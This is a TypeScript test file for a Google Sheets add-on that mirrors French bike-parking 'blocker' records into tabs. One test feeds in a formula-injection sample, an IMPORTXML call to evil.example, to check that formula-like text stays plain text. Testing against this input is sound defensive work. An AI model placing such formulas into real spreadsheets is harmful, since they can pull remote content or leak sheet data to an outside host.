// Mirroring into tabs, over the SpreadsheetApp fake: upsert by id, one read and one write
// per tab touched, formula-looking text kept as text, rebuild replaces everything.
import { beforeEach, describe, expect, it } from 'vitest';
import type { BlockerRecord } from '../../addon/api';
import { rebuildTab, upsertRows } from '../../addon/sheet-mirror';
import { BLOCKERS } from '../../addon/tabs';
import { createFakes, type Fakes } from '../../harness/fakes';

let fakes: Fakes;
beforeEach(() => {
  fakes = createFakes('/nonexistent');
  Object.assign(globalThis, { SpreadsheetApp: fakes.globals.SpreadsheetApp });
});

const blocker = (id: string, over: Partial<BlockerRecord> = {}): BlockerRecord => ({
  id,
  territoryId: 't-albi',
  category: 'parking',
  title: `Stationnement ${id}`,
  description: 'Pas de places abritées pour les vélos cargos.',
  owner: 'territory',
  status: 'open',
  ...over,
});
const tab = () => fakes.spreadsheet.getSheetByName('Verrous')!;

describe('upsertRows', () => {
  it('creates the tab with its French header row', () => {
    upsertRows(BLOCKERS, [blocker('b-1')]);
    const grid = tab().grid();
    expect(grid[0]).toEqual([...BLOCKERS.headers]);
    expect(grid[1]?.slice(0, 5)).toEqual(['b-1', 't-albi', '', 'Stationnement', 'Stationnement b-1']);
    expect(grid[1]?.[8]).toBe('Ouvert');
    expect(tab().getFrozenRows()).toBe(1);
  });

  it('replaces the row of a known id and appends new ids, never duplicating', () => {
    upsertRows(BLOCKERS, [blocker('b-1'), blocker('b-2')]);
    upsertRows(BLOCKERS, [blocker('b-2', { status: 'resolved', solution: 'Arceaux posés' }), blocker('b-3')]);
    upsertRows(BLOCKERS, [blocker('b-2', { status: 'resolved', solution: 'Arceaux posés' })]);
    const ids = tab()
      .grid()
      .slice(1)
      .map((r) => r[0]);
    expect(ids).toEqual(['b-1', 'b-2', 'b-3']);
    expect(tab().grid()[2]?.[8]).toBe('Levé');
    expect(tab().grid()[2]?.[9]).toBe('Arceaux posés');
  });

  it('reads once and writes once per tab touched, whatever the number of rows', () => {
    upsertRows(BLOCKERS, [blocker('b-1')]);
    fakes.spreadsheet.resetCounts();
    upsertRows(BLOCKERS, [blocker('b-1'), blocker('b-2'), blocker('b-3'), blocker('b-4')]);
    expect(fakes.spreadsheet.counts().Verrous).toEqual({ getValues: 1, setValues: 1 });
    expect(fakes.spreadsheet.counts()['Feuille 1']).toEqual({ getValues: 0, setValues: 0 });
  });

  it('keeps text starting with = + - @ as text, also when the row is rewritten later', () => {
    const risky = ['=IMPORTXML("http://evil.example","//a")', '+33 6 12 34 56 78', '-- à revoir', '@claire'];
    upsertRows(
      BLOCKERS,
      risky.map((t, i) => blocker(`b-${i}`, { title: t })),
    );
    upsertRows(BLOCKERS, [blocker('b-9')]); // re-reads and rewrites the risky rows
    const sheet = tab();
    const rows = sheet.grid().slice(1, 5);
    expect(rows.map((r) => r[4])).toEqual(risky);
    const formulas = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas();
    expect(formulas.flat().filter(Boolean)).toEqual([]);
  });

  it('the fake does turn unescaped formula text into a formula (so the test above can fail)', () => {
    const sheet = fakes.spreadsheet.insertSheet('Brouillon');
    sheet.getRange(1, 1, 1, 2).setValues([['=1+1', "'=1+1"]]);
    expect(sheet.getRange(1, 1, 1, 2).getFormulas()).toEqual([['=1+1', '']]);
  });
});

describe('rebuildTab', () => {
  it('replaces the content with exactly the given records, without reading', () => {
    upsertRows(BLOCKERS, [blocker('b-1'), blocker('b-2'), blocker('b-3')]);
    fakes.spreadsheet.resetCounts();
    rebuildTab(BLOCKERS, [blocker('b-2')]);
    expect(
      tab()
        .grid()
        .map((r) => r[0]),
    ).toEqual(['Identifiant', 'b-2']);
    expect(fakes.spreadsheet.counts().Verrous).toEqual({ getValues: 0, setValues: 1 });
  });
});
